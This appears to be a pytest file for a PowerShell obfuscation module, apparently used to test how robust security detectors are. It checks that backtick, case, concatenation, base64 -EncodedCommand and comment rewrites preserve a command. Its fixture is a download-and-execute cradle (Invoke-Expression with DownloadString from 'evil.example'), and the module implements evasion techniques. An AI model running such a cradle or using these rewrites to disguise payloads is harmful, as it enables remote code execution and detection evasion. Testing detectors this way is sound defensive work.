"""PowerShell reads the same: its documented rules, undone."""

from __future__ import annotations

import base64
import re

import pytest

from sftsec_robust.attacks import powershell
from tests.plugins.robust.asking import Rewrite, draws

CODE = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
LINE = f'powershell.exe -nop -c "{CODE}"'


class TestRules:
    @pytest.mark.parametrize("text", [CODE, LINE])
    def test_back_ticks_make_no_sequence(self, text: str) -> None:
        made = set(draws(powershell.ps_backticks, text, "powershell", twice=True))
        assert len(made) > 1
        assert {each.replace("`", "") for each in made} == {text}
        assert not any(re.search("`[0abefnrtuvx`]", each, re.I) for each in made)

    def test_case_does_not_matter(self) -> None:
        made = set(draws(powershell.ps_case, CODE, "powershell"))
        assert {each.lower() for each in made} == {CODE.lower()}
        assert all("'http://evil.example/a'" in each for each in made)

    def test_sum_of_literals_is_the_literal(self) -> None:
        made = set(draws(powershell.ps_concatenation, CODE, "powershell"))
        joined = {re.sub(r"\('([^']*)'\+'([^']*)'\)", r"'\1\2'", each) for each in made}
        assert joined == {CODE}
        assert CODE not in made

    def test_encoded_command_decodes_to_it(self) -> None:
        (made,) = set(draws(powershell.ps_encoded, LINE, "powershell"))
        head, _, word = made.rpartition(" ")
        assert head == "powershell.exe -nop -EncodedCommand"
        assert base64.b64decode(word).decode("utf-16-le") == CODE

    def test_comment_stands_before_the_code(self) -> None:
        for each in draws(powershell.ps_comment, LINE, "powershell"):
            assert re.sub("<#[^#]*#> ", "", each) == LINE
            assert "<# " in each


class TestCommandLine:
    @pytest.mark.parametrize(
        "rewrite", [powershell.ps_backticks, powershell.ps_concatenation, powershell.ps_comment]
    )
    def test_what_another_shell_reads_stays(self, rewrite: Rewrite) -> None:
        text = "powershell -nop -enc dwBoAG8AYQBtAGkA"
        assert set(draws(rewrite, text, "powershell")) == {text}
